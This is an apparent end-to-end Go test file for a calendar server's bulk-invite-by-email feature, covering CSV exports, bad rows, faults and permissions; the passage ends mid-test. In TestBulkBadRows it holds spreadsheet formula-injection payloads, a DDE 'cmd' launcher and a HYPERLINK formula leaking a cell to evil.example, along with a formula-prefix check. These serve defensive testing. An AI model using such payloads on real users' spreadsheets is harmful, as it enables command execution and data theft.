package e2e

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"github.com/calendarinvite/calendarinviteserver/handlers"
	"github.com/calendarinvite/calendarinviteserver/internal/bulk"
	"github.com/calendarinvite/calendarinviteserver/internal/imip/imiptest"
	"github.com/calendarinvite/calendarinviteserver/localstack/aws"
	"github.com/calendarinvite/calendarinviteserver/localstack/stack"
	"github.com/calendarinvite/calendarinviteserver/localstack/stack/stacktest"
	"github.com/calendarinvite/calendarinviteserver/localstack/states"
)

const lists = "bulk@cis.localhost"

// host is an organizer who may send lists, with an event.
type host struct {
	*system
	imiptest.Address
	uid   string
	mails int // that they had before their list
}

func (s *system) host() *host {
	s.t.Helper()
	who := somebody("ada")
	h := &host{system: s, Address: who, uid: s.register(tea(who))}
	s.administer("PUT", who.Email, "bulk")
	return h
}

// attached is a file of a mail.
type attached struct {
	name, kind string // file name and media type
	body       []byte
}

// mailFiles mails a subject and files to the bulk mailbox and waits for the end.
func (h *host) mailFiles(subject string, files ...attached) states.Execution {
	h.t.Helper()
	h.mails = h.sentTo(h.Email)
	return h.WaitExecution("bulk-invites", h.SendMail(h.Email, lists, h.compose(subject, files...)))
}

func (h *host) compose(subject string, files ...attached) []byte {
	var mail bytes.Buffer
	fmt.Fprintf(&mail, "From: %s\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: <%d@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"+
		"--b\r\nContent-Type: text/plain\r\n\r\nHere they are.\r\n", h.Email, lists, subject, people.Add(1))
	for _, f := range files {
		fmt.Fprintf(&mail, "--b\r\nContent-Type: %s; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n", f.kind, f.name, f.name)
		for text := base64.StdEncoding.EncodeToString(f.body); text != ""; text = text[min(76, len(text)):] {
			mail.WriteString(text[:min(76, len(text))] + "\r\n")
		}
	}
	mail.WriteString("--b--\r\n")
	return mail.Bytes()
}

// mailCSV mails a CSV file; the subject names the event.
func (h *host) mailCSV(list string) states.Execution {
	h.t.Helper()
	return h.mailFiles("Guests of "+h.uid, attached{"guests.csv", "text/csv", []byte(list)})
}

// outcome is a row of the status report.
type outcome struct{ uid, email, result, reason string }

// settled checks that the list's workflow came to its end and that the sender got one status report, whose counts are those of its file. It
// returns the mail, and the file's rows by their numbers. No cell of the file may be a formula.
func (h *host) settled(x states.Execution) (mail []byte, rows map[int]outcome) {
	h.t.Helper()
	h.endsIn(x, "ListSettled")
	sent := h.Sent(h.Email)
	if len(sent) <= h.mails {
		h.t.Fatalf("no status report; %s", x.Output)
	}
	mail = sent[h.mails].Raw
	rows, total := map[int]outcome{}, bulk.Tally{}
	for i, line := range h.csvIn(mail, "results.csv") {
		if i == 0 {
			if !slices.Equal(line, bulk.Columns) {
				h.t.Errorf("the columns are %v", line)
			}
			continue
		}
		number, err := strconv.Atoi(line[0])
		if _, twice := rows[number]; err != nil || twice {
			h.t.Errorf("row %v stands there twice, or is none: %v", line, err)
		}
		if line[4] != "" && line[5] == "" {
			h.t.Errorf("row %v says no reason", line)
		}
		rows[number] = outcome{line[1], line[2], line[3], line[4]}
		switch line[3] {
		case bulk.Sent:
			total.Sent++
		case bulk.Already:
			total.Already++
		case bulk.Blocked:
			total.Blocked++
		case bulk.Invalid:
			total.Invalid++
		case bulk.Limit:
			total.Limit++
		case bulk.Failed:
			total.Failed++
		}
	}
	var out struct {
		Report struct{ Done handlers.BulkReported }
	}
	if err := json.Unmarshal(x.Output, &out); err != nil || out.Report.Done.Total != total {
		h.t.Errorf("the file makes %+v, the report says %+v: %v", total, out.Report.Done.Total, err)
	}
	words := string(read(h.t, mail).Parts[0].Body)
	for label, n := range map[string]int{"Sent:": total.Sent, "Already invited:": total.Already, "Not sent:": len(rows) - total.Sent - total.Already} {
		_, after, found := strings.Cut(words, label)
		if number, _, _ := strings.Cut(strings.TrimSpace(after), "\n"); !found || strings.TrimSpace(number) != strconv.Itoa(n) {
			h.t.Errorf("the mail says %s %q, want %d:\n%s", label, strings.TrimSpace(number), n, words)
		}
	}
	return mail, rows
}

// csvIn reads a CSV file of a mail, as Excel and everybody else does. No cell of it may be a formula.
func (s *system) csvIn(mail []byte, name string) (lines [][]string) {
	s.t.Helper()
	for _, part := range read(s.t, mail).Parts {
		if part.Filename != name {
			continue
		}
		text, marked := bytes.CutPrefix(part.Body, []byte("\xef\xbb\xbf"))
		lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil || !marked {
			s.t.Fatalf("%s is no CSV that Excel reads as UTF-8: %v: %q", name, err, part.Body)
		}
		for _, line := range lines {
			for _, cell := range line {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r") {
					s.t.Errorf("a spreadsheet takes %q for a formula", cell)
				}
			}
		}
		return lines
	}
	s.t.Fatalf("no file %s in the mail\n%s", name, mail)
	return nil
}

// expect compares the rows of a report, whose uid is the host's event unless they say otherwise.
func (h *host) expect(got, want map[int]outcome) {
	h.t.Helper()
	for row, w := range want {
		if w.uid == "" {
			w.uid = h.uid
		}
		if got[row] != w {
			h.t.Errorf("row %d: %+v, want %+v", row, got[row], w)
		}
	}
	for row, g := range got {
		if _, has := want[row]; !has {
			h.t.Errorf("row %d: %+v, want none", row, g)
		}
	}
}

// guestsAre checks who is invited to the event, under which names, and that each got one invitation, addressed so.
func (h *host) guestsAre(want map[string]string) {
	h.t.Helper()
	_, attendees := h.records(h.uid)
	got := map[string]string{}
	for _, a := range attendees {
		got[a.Email] = a.Name
		if a.Origin != "bulk" || string(a.Delivery) != "sent" {
			h.t.Errorf("%s: %s %s", a.Email, a.Origin, a.Delivery)
		}
	}
	if !maps.Equal(got, want) {
		h.t.Errorf("invited are %q, want %q", got, want)
	}
}

func in(e encoding.Encoding, text string) []byte {
	b, err := e.NewEncoder().Bytes([]byte(text))
	if err != nil {
		panic(err) // the test's own text
	}
	return b
}

func crlf(text string) string { return strings.ReplaceAll(text, "\n", "\r\n") }

// TestBulkExports mails what spreadsheets, address books and newsletter services really write.
func TestBulkExports(t *testing.T) {
	s := start(t)
	const csvType, excelType = "text/csv", "application/vnd.ms-excel"
	for _, c := range []struct {
		name    string
		file    attached // $UID stands for the event's
		subject bool     // names the event
		want    map[string]string
		not     map[int]outcome // rows that are not sent
	}{
		{
			name: "Excel, CSV UTF-8, with its mark, an empty line and trailing columns",
			file: attached{"Guests.csv", excelType, []byte("\xef\xbb\xbf" + crlf("UID,Email,Name,,\n$UID,ada@excel.example.com,Ada Lovelace,,\n,,,,\n$UID,GRACE@Excel.Example.COM,\"Hopper, Grace\",,\n"))},
			want: map[string]string{"ada@excel.example.com": "Ada Lovelace", "grace@excel.example.com": "Hopper, Grace"},
		},
		{
			name: "Excel in German: Windows-1252, semicolons, two columns of names", subject: true,
			file: attached{"Gäste.csv", excelType, in(charmap.Windows1252, crlf("E-Mail-Adresse;Vorname;Nachname\njuergen@excel.example.de;Jürgen;Groß\nzoe@excel.example.de;Zoë;\"Müller; geb. „Schulz“\"\n"))},
			want: map[string]string{"juergen@excel.example.de": "Jürgen Groß", "zoe@excel.example.de": "Zoë Müller; geb. „Schulz“"},
		},
		{
			name: "Excel, Unicode text: UTF-16 with its mark, tabs",
			file: attached{"guests.txt", "text/plain", in(unicode.UTF16(unicode.LittleEndian, unicode.UseBOM), crlf("uid\temail\tname\n$UID\tivan@excel.example.ru\tИван Петров\n$UID\tlilei@excel.example.cn\t李, 雷\n"))},
			want: map[string]string{"ivan@excel.example.ru": "Иван Петров", "lilei@excel.example.cn": "李, 雷"},
		},
		{
			name: "UTF-16 the other way round, without a mark", subject: true,
			file: attached{"guests.csv", csvType, in(unicode.UTF16(unicode.BigEndian, unicode.IgnoreBOM), "email,name\rnoel@mac.example.com,Noël\r")},
			want: map[string]string{"noel@mac.example.com": "Noël"},
		},
		{
			name: "Excel's line that names the separator", subject: true,
			file: attached{"guests.csv", csvType, []byte(crlf("sep=;\nName;Email\nNg, Ada;ada@sep.example.com\n"))},
			want: map[string]string{"ada@sep.example.com": "Ng, Ada"},
		},
		{
			name: "Excel for the old Mac: carriage returns alone", subject: true,
			file: attached{"guests.csv", "application/octet-stream", []byte("name,email\rAda,ada@cr.example.com\rBob,bob@cr.example.com\r")},
			want: map[string]string{"ada@cr.example.com": "Ada", "bob@cr.example.com": "Bob"},
		},
		{
			name: "Google Sheets: line feeds, a quoted line break, columns around ours",
			file: attached{"Guests - Sheet1.csv", csvType, []byte("Notes,Event ID,Email Address,Full Name,Table\n\"likes tea\nand cake\",$UID,mary@sheets.example.com,Mary Major,3\n,$UID,carlos@sheets.example.com,\"Carlos\nSalazar\",4\n")},
			want: map[string]string{"mary@sheets.example.com": "Mary Major", "carlos@sheets.example.com": "Carlos Salazar"},
		},
		{
			name: "Google Contacts", subject: true,
			file: attached{"contacts.csv", csvType, []byte("First Name,Middle Name,Last Name,Labels,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Value\n" +
				"Mary,Ann,Major,* myContacts,* Work,mary@contacts.example.com,m@example.com\nNoMail,,Person,* myContacts,,,\n")},
			want: map[string]string{"mary@contacts.example.com": "Mary Ann Major"},
			not:  map[int]outcome{3: {"", "", "invalid", "no-address"}},
		},
		{
			name: "Mailchimp: JSON with a line break in a cell", subject: true,
			file: attached{"subscribed_members_export_1a2b.csv", csvType, []byte("\"Email Address\",\"First Name\",\"Last Name\",MEMBER_RATING,OPTIN_TIME,NOTES,TAGS\n" +
				"ada@chimp.example.com,Ada,Lovelace,2,\"2026-01-03 10:20:30\",,\"\"\"vip\"\",\"\"spring\"\"\"\n" +
				"Bob@Chimp.example.com,,,2,\"2026-01-04 10:20:30\",\"[{\"\"note\"\":\"\"likes\ntea\"\"}]\",\n")},
			want: map[string]string{"ada@chimp.example.com": "Ada Lovelace", "bob@chimp.example.com": ""},
		},
		{
			name: "HubSpot: its own columns first", subject: true,
			file: attached{"hubspot-crm-exports.csv", csvType, []byte("\"Record ID\",\"First Name\",\"Last Name\",\"Email\",\"Lead Status\"\n\"101\",\"Maria\",\"Johnson (Sample)\",\"maria@hub.example.com\",\"\"\n")},
			want: map[string]string{"maria@hub.example.com": "Maria Johnson (Sample)"},
		},
		{
			name: "Outlook's contacts, one of them of Exchange", subject: true,
			file: attached{"contacts.csv", csvType, []byte(crlf("First Name,Last Name,E-mail Address,E-mail Type\nJorge,Souza,jorge@outlook.example.com,SMTP\nLi,Juan,/o=ExchangeLabs/ou=Exchange/cn=Recipients/cn=li,EX\n"))},
			want: map[string]string{"jorge@outlook.example.com": "Jorge Souza"},
			not:  map[int]outcome{3: {"", "/o=ExchangeLabs/ou=Exchange/cn=Recipients/cn=li", "invalid", "bad-address"}},
		},
		{
			name: "nothing but addresses", subject: true,
			file: attached{"mails.csv", csvType, []byte("one@plain.example.com\ntwo@plain.example.com\n\nONE@plain.example.com\n")},
			want: map[string]string{"one@plain.example.com": "", "two@plain.example.com": ""},
			not:  map[int]outcome{4: {"", "one@plain.example.com", "invalid", "duplicate"}},
		},
		{
			name: "written by hand: mailboxes, spaces, quotes, invisible characters", subject: true,
			file: attached{"by hand.CSV", csvType, []byte("\n  \n Email , NAME \n \"Dis Play\" <display@hand.example.com>,\n mailto:ada@hand.example.com , Ada Ng \n\u200bzero@hand.example.com\u200b,Zero\n" +
				"\"Ng, Ada\" <ng@hand.example.com>,\n\"o'hara@hand.example.com\",\"Scarlett \"\"Katie\"\" O'Hara\"\n")},
			want: map[string]string{"display@hand.example.com": "Dis Play", "ada@hand.example.com": "Ada Ng", "zero@hand.example.com": "Zero", "ng@hand.example.com": "Ng, Ada", "o'hara@hand.example.com": `Scarlett "Katie" O'Hara`},
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := s.on(t).host()
			subject := "Our guests"
			if c.subject {
				subject = "Fwd: guests of [" + h.uid + "]"
			}
			c.file.body = bytes.ReplaceAll(c.file.body, []byte("$UID"), []byte(h.uid))
			c.file.body = bytes.ReplaceAll(c.file.body, in(unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM), "$UID"), in(unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM), h.uid))
			_, rows := h.settled(h.mailFiles(subject, c.file))
			for row, got := range rows {
				if want, isNot := c.not[row]; isNot {
					want.uid = h.uid
					if got != want {
						t.Errorf("row %d: %+v, want %+v", row, got, want)
					}
				} else if got.result != bulk.Sent || got.uid != h.uid {
					t.Errorf("row %d: %+v", row, got)
				}
			}
			if len(rows) != len(c.want)+len(c.not) {
				t.Errorf("%d rows, want %d: %v", len(rows), len(c.want)+len(c.not), rows)
			}
			h.guestsAre(c.want)
			for email := range c.want {
				if n := s.sentTo(email); n != 1 {
					t.Errorf("%d mails to %s", n, email)
				}
			}
		})
	}
}

// TestBulkCorpus mails every list of the corpus: its contacts are invited, the rows that its manifest names are rejected.
func TestBulkCorpus(t *testing.T) {
	folder := filepath.Join(stacktest.Root(t), "..", "shared", "corpus")
	text, err := os.ReadFile(filepath.Join(folder, "MANIFEST.json"))
	if err != nil {
		t.Skip("the corpus is not here: ", err)
	}
	var manifest struct {
		Files []struct {
			File, Kind string
			Expect     json.RawMessage
		}
	}
	if err := json.Unmarshal(text, &manifest); err != nil {
		t.Fatal(err)
	}
	s := start(t)
	for _, file := range manifest.Files {
		if file.Kind != "csv" {
			continue
		}
		t.Run(filepath.Base(file.File), func(t *testing.T) {
			var expect struct {
				Contacts []struct{ Name, Email string }
				Rejected []struct{ Row int } `json:"rejected_rows"`
			}
			if err := json.Unmarshal(file.Expect, &expect); err != nil {
				t.Fatal(err)
			}
			body, err := os.ReadFile(filepath.Join(folder, file.File))
			if err != nil {
				t.Fatal(err)
			}
			h := s.on(t).host()
			x := h.mailFiles("Guests of "+h.uid, attached{filepath.Base(file.File), "text/csv", body})
			if len(expect.Contacts) == 0 {
				h.endsIn(x, "RequestRefused")
				if got := h.reason(x); got != bulk.ReasonEmptyList || h.sentTo(h.Email) != h.mails+1 {
					t.Errorf("refused because of %q, %d mails", got, h.sentTo(h.Email)-h.mails)
				}
				return
			}
			_, rows := h.settled(x)
			want := map[string]string{}
			for _, contact := range expect.Contacts {
				want[contact.Email] = contact.Name
			}
			h.guestsAre(want)
			for _, wrong := range expect.Rejected {
				if rows[wrong.Row].result != bulk.Invalid {
					t.Errorf("row %d: %+v", wrong.Row, rows[wrong.Row])
				}
			}
			if len(rows) != len(want)+len(expect.Rejected) {
				t.Errorf("%d rows: %v", len(rows), rows)
			}
		})
	}
}

// TestBulkBadRows: every bad row is named with its number and its reason, the good ones beside it are sent, and the report can be corrected
// and mailed back.
func TestBulkBadRows(t *testing.T) {
	s := start(t)
	h := s.host()
	second := tea(h.Address)
	second.Key = "second"
	cancelled := s.register(second)
	second.Sequence, second.At = 1, second.At.Add(time.Minute)
	s.endsIn(s.cancel(second), "EventCancelled")
	past := tea(h.Address)
	past.Key, past.Start, past.End = "past", past.Start.AddDate(0, -3, 0), past.End.AddDate(0, -3, 0)
	over := s.register(past)
	others := s.host().uid
	const unknown = "0000000000000000000000000000000000000000"
	const formula = "=cmd|' /C calc'!A0"

	list := "uid,email,name\n" + // row 1
		"UID,good@rows.example.com,Good\n" +
		"UID,not an address,Bad\n" +
		"UID,,Nobody\n" +
		"UID,GOOD@rows.example.com,Good again\n" + // 5
		unknown + ",a@rows.example.com,\n" +
		others + ",b@rows.example.com,\n" +
		cancelled + ",c@rows.example.com,\n" +
		over + ",d@rows.example.com,\n" +
		"UID," + h.Email + ",Me\n" + // 10
		"UID,rsvp+anything@cis.localhost,You\n" +
		"UID,\"e@rows.example.com,never closed\n" +
		"UID,f\x00@rows.example.com,NUL\n" +
		"no uid!,g@rows.example.com,\n" +
		"UID," + formula + ",Formula\n" + // 15
		formula + ",h@rows.example.com,\n" +
		"UID,formula@rows.example.com,\"=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\n" +
		"UID,plus@rows.example.com,+1 234\n" +
		"UID,i@rows.example.com;j@rows.example.com,Two\n" +
		"UID,-minus@rows.example.com,@minus\n" // 20
	x := h.mailFiles("Guests", attached{"guests.csv", "text/csv", []byte(strings.ReplaceAll(list, "UID,", h.uid+","))})
	mail, rows := h.settled(x)
	want := map[int]outcome{
		2: {"", "good@rows.example.com", "sent", ""}, 3: {"", "not an address", "invalid", "bad-address"}, 4: {"", "", "invalid", "no-address"},
		5: {"", "good@rows.example.com", "invalid", "duplicate"},
		6: {unknown, "a@rows.example.com", "invalid", "unknown-event"}, 7: {others, "b@rows.example.com", "invalid", "unknown-event"},
		8: {cancelled, "c@rows.example.com", "invalid", "event-cancelled"}, 9: {over, "d@rows.example.com", "invalid", "event-over"},
		10: {"", h.Email, "invalid", "organizer"}, 11: {"", "rsvp+anything@cis.localhost", "invalid", "own-address"},
		12: {"", "e@rows.example.com,never closed", "invalid", "unclosed-quote"}, 13: {"", "f @rows.example.com", "invalid", "not-text"},
		14: {"no uid!", "g@rows.example.com", "invalid", "bad-uid"}, 15: {"", "'" + formula, "invalid", "bad-address"}, 16: {"'" + formula, "h@rows.example.com", "invalid", "bad-uid"},
		17: {"", "formula@rows.example.com", "sent", ""}, 18: {"", "plus@rows.example.com", "sent", ""},
		19: {"", "i@rows.example.com;j@rows.example.com", "invalid", "bad-address"}, 20: {"", "'-minus@rows.example.com", "sent", ""},
	}
	h.expect(rows, want)
	if words := string(read(t, mail).Parts[0].Body); !strings.Contains(words, "Invalid: 15") {
		t.Errorf("the mail does not count the invalid rows:\n%s", words)
	}

	t.Run("formulas do no harm where names are shown", func(t *testing.T) {
		h := &host{system: s.on(t), Address: h.Address, uid: h.uid}
		report, _ := h.report(h.uid, h.Email)
		names := map[string]string{}
		for _, line := range h.csvIn(report, "attendees.csv") { // which looks at every cell
			names[line[0]] = line[1]
		}
		if got := names["formula@rows.example.com"]; !strings.HasPrefix(got, "'=HYPERLINK(") || names["plus@rows.example.com"] != "'+1 234" || names["'-minus@rows.example.com"] != "'@minus" {
			t.Errorf("the names are %q", names)
		}
	})
	t.Run("the report itself, mailed back", func(t *testing.T) {
		h := &host{system: s.on(t), Address: h.Address, uid: h.uid}
		var file []byte
		for _, part := range read(t, mail).Parts {
			if part.Filename == "results.csv" {
				file = part.Body
			}
		}
		before := len(s.Sent(""))
		_, again := h.settled(h.mailFiles("Again", attached{"results.csv", "text/csv", file}))
		counts := map[string]int{}
		for _, row := range again {
			counts[row.result]++
		}
		if counts[bulk.Already] != 4 || counts[bulk.Invalid] != len(want)-4 || len(s.Sent("")) != before+1 {
			t.Errorf("%v; %d mails", counts, len(s.Sent(""))-before)
		}
	})
}

// TestBulkPartialTrouble: what happens to some rows of a batch is those rows' own: each has its result, and the others are sent.
func TestBulkPartialTrouble(t *testing.T) {
	s := start(t, stacktest.Env("EVENT_INVITE_LIMIT", "6"))
	h := s.host()
	known, blocked := somebody("known"), somebody("blocked")
	s.invite(h.uid, known) // the first of six

	other := tea(h.Address)
	other.Key = "other"
	link := unsubscribeLink(t, s.invite(s.register(other), blocked))
	if a := s.Do("POST", link, "List-Unsubscribe=One-Click", asForm...); a.Status != 200 {
		t.Fatalf("unsubscribing: %d %s", a.Status, a.Body)
	}
	list := "email\n" + known.Email + "\n" + blocked.Email + "\nada@refused.localhost\nada@reject.localhost\n" +
		"one@trouble.example.com\ntwo@trouble.example.com\nthree@trouble.example.com\nfour@trouble.example.com\nfive@trouble.example.com\n"
	want := map[int]outcome{
		2: {"", known.Email, "already", ""}, 3: {"", blocked.Email, "blocked", "blocked"},
		4: {"", "ada@refused.localhost", "failed", "refused"}, 5: {"", "ada@reject.localhost", "sent", ""}, // SES took it; it says later that it will not
		6: {"", "one@trouble.example.com", "sent", ""}, 7: {"", "two@trouble.example.com", "sent", ""}, 8: {"", "three@trouble.example.com", "sent", ""},
		9: {"", "four@trouble.example.com", "limit", "invite-limit"}, 10: {"", "five@trouble.example.com", "limit", "invite-limit"},
	}
	mail, rows := h.settled(h.mailCSV(list))
	h.expect(rows, want)
	words := string(read(t, mail).Parts[0].Body)
	for _, label := range []string{"Blocked: 1", "Over the limit: 2", "Failed: 1"} {
		if !strings.Contains(words, label) {
			t.Errorf("the mail does not say %q:\n%s", label, words)
		}
	}
	if n := s.sentTo(h.Email) - h.mails; n != 2 { // the report, and that the limit is reached
		t.Errorf("%d mails to the organizer", n)
	}
	s.Eventually("the rejection's record", func() bool { return s.attendee(h.uid, "ada@reject.localhost").Undeliverable != "" })

	_, rows = h.settled(h.mailCSV(list))
	for row, email := range map[int]string{6: "one", 7: "two", 8: "three"} {
		want[row] = outcome{"", email + "@trouble.example.com", "already", ""}
	}
	want[4], want[5] = outcome{"", "ada@refused.localhost", "invalid", "undeliverable"}, outcome{"", "ada@reject.localhost", "invalid", "undeliverable"}
	h.expect(rows, want)
	if n := s.sentTo(h.Email) - h.mails; n != 1 { // of the limit, once
		t.Errorf("%d mails to the organizer", n)
	}
	for _, email := range []string{"one@trouble.example.com", "three@trouble.example.com", "ada@reject.localhost", known.Email, blocked.Email} {
		if n := s.sentTo(email); n != 1 {
			t.Errorf("%d mails to %s", n, email)
		}
	}
	for _, email := range []string{"four@trouble.example.com", "five@trouble.example.com"} {
		if n := s.sentTo(email); n != 0 {
			t.Errorf("%d mails to %s", n, email)
		}
	}
}

// TestBulkFaults: services that are busy or away delay rows and lose none; what cannot be sent at all is reported, and the list can be sent again.
func TestBulkFaults(t *testing.T) {
	s := start(t, func(cfg *stack.Config) { cfg.Pace = 0.001 })
	const sender, guests = "send-bulk-event-invites", 100 // two batches
	for _, c := range []struct {
		name   string
		faults []aws.Fault
		result outcome // of every row
	}{
		{"SES throttles", []aws.Fault{{Function: sender, Action: "ses:SendEmail", Nth: 20, Times: 8, Kind: "throttle"}}, outcome{result: bulk.Sent}},
		{"SES fails for a moment", []aws.Fault{{Function: sender, Action: "ses:SendEmail", Nth: 5, Times: 3, Kind: "fail"}}, outcome{result: bulk.Sent}},
		{"SES takes a mail and the answer is lost", []aws.Fault{{Function: sender, Action: "ses:SendEmail", Nth: 7, Kind: "kill", When: aws.After}}, outcome{result: bulk.Sent}},
		{"transactions meet others", []aws.Fault{{Function: sender, Action: "dynamodb:TransactWriteItems", Times: 3, Kind: "conflict"}}, outcome{result: bulk.Sent}},
		{"the table throttles", []aws.Fault{{Function: sender, Action: "dynamodb:BatchExecuteStatement", Times: 2, Kind: "partial"}, {Function: sender, Action: "dynamodb:BatchGetItem", Times: 2, Kind: "partial"}}, outcome{result: bulk.Sent}},
		{"batches fail until the second pass", []aws.Fault{{Function: sender, Action: "lambda:Invoke", Times: 8, Kind: "fail"}}, outcome{result: bulk.Sent}},
		{"batches run twice", []aws.Fault{{Function: sender, Action: "lambda:Invoke", Times: -1, Kind: "twice"}}, outcome{result: bulk.Sent}},
		{"batches fail always", []aws.Fault{{Function: sender, Action: "lambda:Invoke", Times: -1, Kind: "fail"}}, outcome{result: bulk.Failed, reason: bulk.ReasonUnavailable}},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := s.on(t).host()
			list := "email,name\n"
			guest := func(n int) string { return fmt.Sprintf("guest.%d@%s.example.com", n, h.uid) }
			for n := range guests {
				list += guest(n) + ",Guest\n"
			}
			for _, f := range c.faults {
				if err := s.Faults.Add(f); err != nil {
					t.Fatal(err)
				}
			}
			x := h.mailCSV(list)
			for _, f := range s.Faults.List() {
				if f.Hits == 0 {
					t.Errorf("the fault %+v hit nothing", f)
				}
			}
			s.Faults.Clear()
			_, rows := h.settled(x)
			want := map[int]outcome{}
			for n := range guests {
				want[n+2] = outcome{"", guest(n), c.result.result, c.result.reason}
			}
			h.expect(rows, want)
			if c.result.result == bulk.Failed {
				for n := range guests {
					want[n+2] = outcome{"", guest(n), bulk.Sent, ""}
				}
				_, rows = h.settled(h.mailCSV(list))
				h.expect(rows, want)
			}
			twice := 0
			for _, m := range s.Sent(h.uid + ".example.com") {
				if len(m.Recipients()) == 1 {
					twice++
				}
			}
			// Whoever dies between SES's answer and the mark cannot know: those mails, at most as many as were under way, go out again, the same bytes.
			most := guests
			if c.faults[0].Kind == "kill" {
				most += 90
			}
			if twice < guests || twice > most {
				t.Errorf("%d mails to %d guests", twice, guests)
			}
			if got := s.statistics(h.uid); got.Attendees != guests || got.Origin["bulk"] != guests {
				t.Errorf("%+v", got)
			}
		})
	}
}

// TestBulkDoor: who is let in with what.
func TestBulkDoor(t *testing.T) {
	s := start(t)
	guest := func(h *host) string { return "guest@" + h.uid + ".example.com" }
	good := func(h *host) attached { return attached{"guests.csv", "text/csv", []byte("email\n" + guest(h) + "\n")} }
	// silent checks that a mail did nothing, and that nobody was answered.
	silent := func(t *testing.T, h *host, x states.Execution, reason string) {
		t.Helper()
		h.endsIn(x, "NothingToDo")
		if got := h.reason(x); got != reason || h.sentTo(h.Email) != h.mails || h.sentTo(guest(h)) != 0 {
			t.Errorf("nothing is done because of %q, want %q; %d mails to the sender, %d to the guest", got, reason, h.sentTo(h.Email)-h.mails, h.sentTo(guest(h)))
		}
	}
	// refused checks that the sender is told why the list is not used, in these words, and that nobody else got a mail.
	refused := func(t *testing.T, h *host, x states.Execution, reason, words string) {
		t.Helper()
		h.endsIn(x, "RequestRefused")
		if got := h.reason(x); got != reason {
			t.Errorf("refused because of %q, want %q", got, reason)
		}
		sent := h.Sent(h.Email)
		if len(sent) != h.mails+1 || h.sentTo(guest(h)) != 0 {
			t.Fatalf("%d mails to the sender, %d to the guest", len(sent)-h.mails, h.sentTo(guest(h)))
		}
		told := strings.Join(strings.Fields(string(read(t, sent[h.mails].Raw).Parts[0].Body)), " ")
		if !strings.Contains(told, words) {
			t.Errorf("the mail does not say %q:\n%s", words, told)
		}
	}

	t.Run("whoever may not send lists is not answered", func(t *testing.T) {
		h := s.on(t).host()
		h.administer("DELETE", h.Email, "bulk")
		silent(t, h, h.mailFiles(h.uid, good(h)), "no-bulk-permission")
	})
	t.Run("a stranger without an event", func(t *testing.T) {
		h := s.on(t).host()
		h.Address = somebody("stranger")
		silent(t, h, h.mailFiles(h.uid, good(h)), "no-bulk-permission")
	})
	t.Run("an organizer who is suspended", func(t *testing.T) {
		h := s.on(t).host()
		h.administer("PUT", h.Email, "suspended")
		refused(t, h, h.mailFiles(h.uid, good(h)), "suspended", "Your account is suspended")
	})
	for verdicts, reason := range map[string]string{"dmarc=fail": "dmarc-fail", "spf=fail dkim=fail dmarc=gray": "not-authenticated", "virus=fail": "virus", "spam=fail": "spam"} {
		t.Run("a mail with "+verdicts, func(t *testing.T) {
			h := s.on(t).host()
			h.mails = h.sentTo(h.Email)
			raw := with(h.compose(h.uid, good(h)), "X-Local-Verdicts: "+verdicts)
			silent(t, h, h.WaitExecution("bulk-invites", h.SendMail(h.Email, lists, raw)), reason)
		})
	}
	t.Run("an automatic answer", func(t *testing.T) {
		h := s.on(t).host()
		h.mails = h.sentTo(h.Email)
		raw := with(h.compose(h.uid, good(h)), "Auto-Submitted: auto-replied")
		silent(t, h, h.WaitExecution("bulk-invites", h.SendMail(h.Email, lists, raw)), "auto-reply")
	})
	for _, c := range []struct {
		name, subject string // of the mail, where UID is the event's
		files         []attached
		reason, words string
	}{
		{"no list", "UID", nil, "no-csv", "had no CSV file attached"},
		{"a spreadsheet", "UID", []attached{{"guests.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", []byte("PK\x03\x04 and so on")}}, "spreadsheet", "is a spreadsheet"},
		{"a spreadsheet that calls itself CSV", "UID", []attached{{"guests.csv", "text/csv", []byte("PK\x03\x04 and so on")}}, "spreadsheet", "is a spreadsheet"},
		{"two lists", "UID", []attached{{"a.csv", "text/csv", []byte("email\na@b.example\n")}, {"b.csv", "text/csv", []byte("email\nc@d.example\n")}}, "several-csv", "several CSV files"},
		{"an empty list", "UID", []attached{{"a.csv", "text/csv", nil}}, "empty-list", "Your list is empty"},
		{"a header alone", "UID", []attached{{"a.csv", "text/csv", []byte("uid,email,name\n")}}, "empty-list", "Your list is empty"},
		{"no header", "UID", []attached{{"a.csv", "text/csv", []byte("Ada,Lovelace\nGrace,Hopper\n")}}, "no-header", "does not name its columns"},
		{"no event", "Guests", []attached{{"a.csv", "text/csv", []byte("email\na@b.example\n")}}, "no-event", "does not say which event"},
		{"binary", "UID", []attached{{"a.csv", "text/csv", []byte("\x00\x01\x02\x03\x00\x00\x00")}}, "not-text", "damaged, or not a CSV file"},
		{"a row too many", "UID", []attached{{"a.csv", "text/csv", []byte("email\n" + strings.Repeat("a@b.c\n", bulk.MaxRows+1))}}, "too-many-rows", "more than 100,000 rows"},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := s.on(t).host()
			refused(t, h, h.mailFiles(strings.ReplaceAll(c.subject, "UID", h.uid), c.files...), c.reason, c.words)
		})
	}
	t.Run("an event that nobody has", func(t *testing.T) {
		h := s.on(t).host()
		_, rows := h.settled(h.mailFiles("Guests", attached{"a.csv", "text/csv", []byte("uid,email\nunknown," + guest(h) + "\n")}))
		h.expect(rows, map[int]outcome{2: {"unknown", guest(h), "invalid", "unknown-event"}})
	})
	t.Run("somebody else's event", func(t *testing.T) {
		s := s.on(t)
		h, other := s.host(), s.host()
		_, rows := h.settled(h.mailFiles(other.uid, good(other)))
		h.expect(rows, map[int]outcome{2: {other.uid, guest(other), "invalid", "unknown-event"}})
		if s.sentTo(guest(other)) != 0 || s.statistics(other.uid).Attendees != 0 {
